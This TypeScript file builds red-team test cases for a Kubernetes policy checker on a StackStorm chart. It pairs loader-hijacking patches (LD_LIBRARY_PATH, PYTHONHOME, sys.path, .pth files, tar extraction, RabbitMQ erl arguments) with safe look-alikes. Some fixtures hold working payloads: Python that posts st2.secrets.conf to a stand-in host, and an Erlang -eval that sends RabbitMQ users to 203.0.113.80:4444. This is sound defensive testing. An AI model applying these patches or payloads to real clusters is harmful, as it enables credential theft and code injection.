/**
 * The sixteenth round's loader doubts (loads16), in kept cases with their
 * look-alikes:
 *   - an emptyDir on LD_LIBRARY_PATH (or another loader's path) that an init
 *     container fills only by copying out of its image, the chart's own
 *     pattern for packs (base/st2api.yaml's st2-system-packs), holds that
 *     image's files: it passes ST2-SEC-030 when the image is pinned and its
 *     publisher listed (ST2-HRD-001, ST2-HRD-027: the policy's notion of a
 *     trusted image). Filled from the network (wget, curl), by an unpinned
 *     or unlisted image, or from a ConfigMap of libraries, it is denied as a
 *     volume's library is (ld.so(8): LD_LIBRARY_PATH is searched before the
 *     ld.so cache).
 *   - PYTHONHOME at a volume: CPython believes it unconditionally
 *     (Modules/getpath.c search_for_prefix), in st2's virtualenv too, and
 *     imports os, encodings and site from it (ST2-SEC-030); the image's own
 *     prefix, or a copy out of a pinned listed image, passes.
 *   - `sys.path.insert` in the `python -c` a container runs before st2's
 *     code puts a directory ahead of site-packages as PYTHONPATH does, and
 *     `site.addsitedir` runs its .pth files' `import` lines (site docs):
 *     modules there sending out are ST2-SEC-023; modules an init container
 *     copies from a ConfigMap into the emptyDir PYTHONPATH names too.
 *   - `python -m tarfile -e` and `bsdtar -x` of an unpinned download into
 *     st2's packs volume (ST2-SEC-024, as tar and unzip).
 *   - RabbitMQ: rabbitmq-env.conf (rabbitmq-env.conf(5): sourced by sh,
 *     names without RABBITMQ_) setting `-pa` or PLUGINS_DIR, copied into
 *     /etc/rabbitmq as base/rabbitmq.yaml copies its config;
 *     RABBITMQ_PLUGINS_DIR at a ConfigMap's plugin; `-eval` among erl's
 *     flags (erl(1): evaluated at start) (ST2-SEC-030).
 */
import type { Patch, RedTeamCase, Wrapped } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, FIRST, SPEC, STS } from './targets.js';

type Json = Record<string, unknown>;

const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03, 0x00, 0x3e, 0x00, 0xfe, 0xff]).toString('base64');
const LIMITS = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '100m', memory: '64Mi' } };
const DIGEST = 'sha256:7d4b1e0c2f5a8b3e6d9c0f1a4b7e2d5c8f0a3b6e9d1c4f7a0b3e6d9c2f5a8b1e';

/** A workload's first container with LD_LIBRARY_PATH on the `vlib` emptyDir, filled by this init container (mounted at /shared). */
const emptyDirLibs = (target: Json, init: Json, fresh: boolean, more: Json[] = []): Patch => ({
  target,
  ops: [
    { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'vlib', emptyDir: {} } },
    { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'vlib', mountPath: '/opt/vendor/lib', readOnly: true } },
    fresh ? { op: 'add', path: `${FIRST}/env`, value: [{ name: 'LD_LIBRARY_PATH', value: '/opt/vendor/lib' }] } : { op: 'add', path: `${FIRST}/env/-`, value: { name: 'LD_LIBRARY_PATH', value: '/opt/vendor/lib' } },
    { op: 'add', path: `${SPEC}/initContainers/-`, value: { name: 'vendor-libs', imagePullPolicy: 'IfNotPresent', resources: LIMITS, ...init, volumeMounts: [{ name: 'vlib', mountPath: '/shared' }, ...((init['volumeMounts'] as Json[] | undefined) ?? [])] } },
    ...more,
  ],
});
const copier = (image: string, script: string, extra: Json = {}): Json => ({ image, command: ['sh', '-ec', script], ...extra });
const body = (patches: Patch[], resources: Json[] = [], wraps: Wrapped = 'prod'): CaseBody => ({ wraps, resources, patches });

export function fresh16LoadsCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, b: CaseBody): void => {
    cases.push(bodyCase(`f16l-${id}`, cls, rule, b));
  };
  const OWN = `registry.corp.example/st2/vendor-libs:1.4.2@${DIGEST}`;

  // --- LD_LIBRARY_PATH on an emptyDir copied out of an image (ST2-SEC-030) -------------------------------
  add('safe-ldpath-copy-from-st2-image', 'delivery', undefined, body([emptyDirLibs(DEPLOY('st2api'), copier('stackstorm/st2actionrunner:3.8.1', 'mkdir -p /shared && cp -a /usr/lib/x86_64-linux-gnu/libz.so.1 /shared/'), true)]));
  add('safe-ldpath-copy-from-own-registry', 'delivery', undefined, body([emptyDirLibs(DEPLOY('st2actionrunner'), { image: OWN, command: ['/bin/cp', '-aR', '/opt/vendor/lib/.', '/shared/'] }, true)], [], 'staging'));
  add('ldpath-copy-from-unlisted-publisher', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2api'), copier('vendorlibs/openssl-fips:3.0.9', 'cp -a /usr/local/lib/. /shared/'), true)]));
  add('ldpath-copy-from-latest', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2auth'), copier('registry.corp.example/st2/vendor-libs:latest', 'cp -a /opt/vendor/lib/. /shared/'), true)]));
  add('ldpath-emptydir-wget', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2api'), { image: 'busybox:1.36.1', command: ['wget', '-q', '-O', '/shared/libz.so.1', 'https://mirror.r16l-libs.example.net/libz.so.1'] }, true)]));
  add('ldpath-copy-then-curl', 'delivery', 'ST2-SEC-030', body([emptyDirLibs(DEPLOY('st2api'), copier(OWN, 'cp -a /opt/vendor/lib/. /shared/ && curl -sfo /shared/libcrypto.so.3 https://mirror.r16l-libs.example.net/libcrypto.so.3'), true)]));
  add('ldpath-copy-from-configmap', 'delivery', 'ST2-SEC-030', body(
    [emptyDirLibs(DEPLOY('st2api'), copier(OWN, 'cp /src/libz.so.1 /shared/', { volumeMounts: [{ name: 'vsrc', mountPath: '/src' }] }), true, [{ op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'vsrc', configMap: { name: 'r16l-libs' } } }])],
    [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'r16l-libs' }, binaryData: { 'libz.so.1': ELF } }],
  ));

  // --- PYTHONHOME at a volume (ST2-SEC-030) ----------------------------------------------------------------
  const pyHome = (target: Json, volume: Json, at: string, home: string, fresh: boolean): Patch => ({
    target,
    ops: [
      { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'pyhome', ...volume } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'pyhome', mountPath: at, readOnly: true } },
      fresh ? { op: 'add', path: `${FIRST}/env`, value: [{ name: 'PYTHONHOME', value: home }] } : { op: 'add', path: `${FIRST}/env/-`, value: { name: 'PYTHONHOME', value: home } },
    ],
  });
  const STDLIB = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'r16l-pyhome' }, data: { os: 'from posixpath import *\n', encodings: '# codecs\n' } };
  add('pythonhome-api-configmap-stdlib', 'delivery', 'ST2-SEC-030', body([pyHome(DEPLOY('st2api'), { configMap: { name: 'r16l-pyhome', items: [{ key: 'os', path: 'lib/python3.8/os.py' }, { key: 'encodings', path: 'lib/python3.8/encodings/__init__.py' }] } }, '/opt/pyhome', '/opt/pyhome', true)], [STDLIB]));
  add('pythonhome-runner-exec-prefix', 'delivery', 'ST2-SEC-030', body([pyHome(DEPLOY('st2actionrunner'), { configMap: { name: 'r16l-pyhome' } }, '/opt/pydyn/lib/python3.8/lib-dynload', '/usr:/opt/pydyn', true)], [STDLIB], 'staging'));
  add('safe-pythonhome-image-prefix', 'delivery', undefined, body([{ target: DEPLOY('st2actionrunner'), ops: [{ op: 'add', path: `${FIRST}/env`, value: [{ name: 'PYTHONHOME', value: '/usr' }] }] }]));

  // --- sys.path in st2's `python -c`, modules copied onto PYTHONPATH (ST2-SEC-023) -------------------------
  const SEND = "import urllib.request\ntry:\n    urllib.request.urlopen('https://collect.r16l-telemetry.example.org/c', data=open('/etc/st2/st2.secrets.conf', 'rb').read(), timeout=2)\nexcept Exception:\n    pass\n";
  const modulesMap = (data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'r16l-mods' }, data });
  const viaCommand = (target: Json, code: string): Patch => ({
    target,
    ops: [
      { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'r16l-mods', configMap: { name: 'r16l-mods' } } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'r16l-mods', mountPath: '/opt/hotfix', readOnly: true } },
      { op: 'replace', path: `${FIRST}/command`, value: ['/opt/stackstorm/st2/bin/python', '-c', code] },
      { op: 'remove', path: `${FIRST}/args` },
    ],
  });
  const RUNNER_MAIN = 'from st2actions.cmd import actionrunner; sys.argv = ["st2actionrunner", "--config-file=/etc/st2/st2.conf", "--config-file=/etc/st2/st2.docker.conf", "--config-file=/etc/st2/st2.user.conf"]; actionrunner.main()';
  add('syspath-insert-runner-six', 'delivery', 'ST2-SEC-023', body([viaCommand(DEPLOY('st2actionrunner'), `import sys; sys.path.insert(0, '/opt/hotfix'); ${RUNNER_MAIN}`)], [modulesMap({ 'six.py': SEND })]));
  add('addsitedir-pth-runner', 'delivery', 'ST2-SEC-023', body([viaCommand(DEPLOY('st2actionrunner'), `import sys, site; site.addsitedir('/opt/hotfix'); ${RUNNER_MAIN}`)], [modulesMap({ 'zz-hotfix.pth': `import urllib.request; urllib.request.urlopen('https://collect.r16l-telemetry.example.org/p', data=open('/etc/st2/st2.secrets.conf', 'rb').read(), timeout=2)\n` })]));
  add('safe-syspath-insert-helper', 'delivery', undefined, body([viaCommand(DEPLOY('st2actionrunner'), `import sys; sys.path.insert(0, '/opt/hotfix'); import st2_banner; ${RUNNER_MAIN}`)], [modulesMap({ 'st2_banner.py': 'import logging\nlogging.getLogger(__name__).info("st2actionrunner with the ops banner")\n' })]));
  const copiedOnPath = (target: Json, script: string, fresh: boolean): Patch => ({
    target,
    ops: [
      { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'r16l-py', emptyDir: {} } },
      { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'r16l-mods', configMap: { name: 'r16l-mods' } } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'r16l-py', mountPath: '/opt/py-extra', readOnly: true } },
      fresh ? { op: 'add', path: `${FIRST}/env`, value: [{ name: 'PYTHONPATH', value: '/opt/py-extra' }] } : { op: 'add', path: `${FIRST}/env/-`, value: { name: 'PYTHONPATH', value: '/opt/py-extra' } },
      { op: 'add', path: `${SPEC}/initContainers/-`, value: { name: 'py-extra', image: 'busybox:1.36.1', imagePullPolicy: 'IfNotPresent', resources: LIMITS, command: ['sh', '-c', script], volumeMounts: [{ name: 'r16l-py', mountPath: '/work' }, { name: 'r16l-mods', mountPath: '/src', readOnly: true }] } },
    ],
  });
  add('pythonpath-emptydir-copied-six', 'delivery', 'ST2-SEC-023', body([copiedOnPath(DEPLOY('st2auth'), 'cp /src/*.py /work/ && chmod 0644 /work/*.py', true)], [modulesMap({ 'six.py': SEND })]));
  add('pythonpath-emptydir-copied-renamed', 'delivery', 'ST2-SEC-023', body([copiedOnPath(DEPLOY('st2actionrunner'), 'cp /src/hook /work/kombu.py', true)], [modulesMap({ hook: SEND })], 'staging'));
  add('safe-pythonpath-emptydir-copied-quiet', 'delivery', undefined, body([copiedOnPath(DEPLOY('st2auth'), 'cp /src/*.py /work/', true)], [modulesMap({ 'ops_tweaks.py': 'import logging\nlogging.getLogger("ops").debug("loaded")\n' })]));

  // --- python -m tarfile / bsdtar into the packs volume (ST2-SEC-024) ---------------------------------------
  const packInit = (script: string): Patch => ({
    target: DEPLOY('st2actionrunner'),
    ops: [{ op: 'add', path: `${SPEC}/initContainers/1`, value: { name: 'extra-packs', image: 'python:3.12.8-slim', imagePullPolicy: 'IfNotPresent', resources: LIMITS, command: ['sh', '-c', script], volumeMounts: [{ name: 'st2-packs-vol', mountPath: '/opt/stackstorm/packs-shared' }] } }],
  });
  const TGZ = 'https://artifacts.r16l-packs.example.net/ops-pack.tgz';
  add('packfetch-python-tarfile', 'delivery', 'ST2-SEC-024', body([packInit(`curl -fsSo /tmp/p.tgz ${TGZ} && python3 -m tarfile -e /tmp/p.tgz /opt/stackstorm/packs-shared/`)]));
  add('packfetch-bsdtar-stdin', 'delivery', 'ST2-SEC-024', body([packInit(`curl -fsSo /tmp/p.tgz ${TGZ} && bsdtar -x -C /opt/stackstorm/packs-shared < /tmp/p.tgz`)]));
  add('safe-packfetch-tarfile-checked', 'delivery', undefined, body([packInit(`curl -fsSo /tmp/p.tgz ${TGZ} && echo "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  /tmp/p.tgz" | sha256sum -c - && python3 -m tarfile -e /tmp/p.tgz /opt/stackstorm/packs-shared/`)]));

  // --- RabbitMQ: rabbitmq-env.conf, the plugins directory, -eval (ST2-SEC-030) ------------------------------
  const BEAM = Buffer.from('FOR1\x00\x00\x00\x0cBEAMAtU8\xff\xfe', 'latin1').toString('base64');
  const erlMap: Json = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'r16l-erl' }, binaryData: { 'r16l_hook.beam': BEAM } };
  const erlMount = (more: Json[] = []): Patch => ({
    target: STS('rabbitmq'),
    ops: [
      { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'r16l-erl', configMap: { name: 'r16l-erl' } } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'r16l-erl', mountPath: '/opt/r16l-erl', readOnly: true } },
      ...more,
    ],
  });
  // base/rabbitmq.yaml's init container script, copying one more file of rabbitmq-config.
  const COPY_CONFIG = "cp /etc/rabbitmq-configmap/rabbitmq.conf /etc/rabbitmq-configmap/enabled_plugins /etc/rabbitmq-configmap/rabbitmq-env.conf /etc/rabbitmq/\npass=\"$(printf '%s' \"${RABBITMQ_PASSWORD}\" | sed -e 's/\\\\/\\\\\\\\/g' -e 's/\"/\\\\\"/g')\"\ncat > /etc/rabbitmq/definitions.json <<EOF\n{\n  \"users\": [{\"name\": \"admin\", \"password\": \"${pass}\", \"tags\": \"administrator\"}],\n  \"vhosts\": [{\"name\": \"/\"}],\n  \"permissions\": [{\"user\": \"admin\", \"vhost\": \"/\", \"configure\": \".*\", \"write\": \".*\", \"read\": \".*\"}],\n  \"policies\": [{\"vhost\": \"/\", \"name\": \"ha\", \"pattern\": \"\", \"apply-to\": \"queues\", \"priority\": 0,\n    \"definition\": {\"ha-mode\": \"all\", \"ha-sync-mode\": \"automatic\", \"ha-sync-batch-size\": 10}}]\n}\nEOF\n";
  // base/rabbitmq.yaml's init container copies rabbitmq-config's files into /etc/rabbitmq: one more file, one more name.
  const envConf = (text: string): CaseBody => ({
    wraps: 'prod',
    resources: [erlMap],
    patches: [
      erlMount([{ op: 'replace', path: `${SPEC}/initContainers/0/command/2`, value: COPY_CONFIG }]),
      { target: { kind: 'ConfigMap', name: 'rabbitmq-config' }, ops: [{ op: 'add', path: '/data/rabbitmq-env.conf', value: text }] },
    ],
  });
  add('rabbitmq-env-conf-pa', 'delivery', 'ST2-SEC-030', envConf('# node tuning\nSERVER_ADDITIONAL_ERL_ARGS="-pa /opt/r16l-erl -s r16l_hook"\n'));
  add('rabbitmq-env-conf-plugins-dir', 'delivery', 'ST2-SEC-030', envConf('PLUGINS_DIR=/opt/r16l-erl:/opt/rabbitmq/plugins\n'));
  add('safe-rabbitmq-env-conf-tuning', 'delivery', undefined, envConf('SERVER_ADDITIONAL_ERL_ARGS="+sbwt none +sbwtdcpu none +sbwtdio none"\n'));
  add('rabbitmq-plugins-dir-env', 'delivery', 'ST2-SEC-030', body([erlMount([{ op: 'add', path: `${FIRST}/env/-`, value: { name: 'RABBITMQ_PLUGINS_DIR', value: '/opt/r16l-erl:/opt/rabbitmq/plugins' } }])], [erlMap]));
  add('rabbitmq-eval-erl-args', 'delivery', 'ST2-SEC-030', body([{ target: STS('rabbitmq'), ops: [{ op: 'add', path: `${FIRST}/env/-`, value: { name: 'RABBITMQ_SERVER_ADDITIONAL_ERL_ARGS', value: "-eval 'spawn(fun() -> timer:sleep(60000), {ok, S} = gen_tcp:connect(\"203.0.113.80\", 4444, []), gen_tcp:send(S, term_to_binary(ets:tab2list(rabbit_user))) end)'" } }] }]));
  return cases;
}
